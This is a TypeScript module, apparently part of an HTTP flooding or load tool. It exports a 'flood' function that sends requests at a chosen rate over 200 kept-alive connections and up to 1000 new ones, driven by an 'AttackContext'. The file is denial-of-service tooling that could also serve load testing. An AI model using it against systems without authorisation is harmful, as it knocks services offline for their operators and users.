import { Answers } from "./answers.ts";
import type { AttackContext } from "./contract.ts";
import { KeptRequests } from "./kept-requests.ts";
import { pace } from "./pace.ts";
import { RawConnections } from "./raw-connections.ts";

/** Requests go one after the other on so many kept connections, and each on its own on as many at once. */
const keptConnections = 200;
const newConnections = 1000;

/** One request's bytes; `headers` are lines that have to be in it, each ended by CR LF. */
export type NextRequest = (headers: string) => string;

/**
 * Sends as many requests a second as the strength says, every other one on a connection that is kept and each of the others on a
 * new one, until the signal. What the target is too slow to take is left out: no connection has two unanswered requests.
 */
export async function flood(context: AttackContext, next: NextRequest): Promise<void> {
  const { counts, signal, strength } = context;
  const connections = new RawConnections(context);
  const kept = new KeptRequests(connections, counts, keptConnections);
  let once = 0;
  const onKept = (): boolean => kept.ask(next(""));
  const onNew = (): boolean => {
    if (once >= newConnections) return false;
    once++;
    const answers = new Answers(counts);
    connections.open({
      opened: (socket) => void connections.send(socket, next("Connection: close\r\n")),
      data: (bytes) => answers.read(bytes),
      gone: () => once--,
    });
    return true;
  };
  let turn = false;
  await pace(strength, signal, () => {
    turn = !turn;
    return turn ? onKept() || onNew() : onNew() || onKept();
  });
  await connections.ended();
}
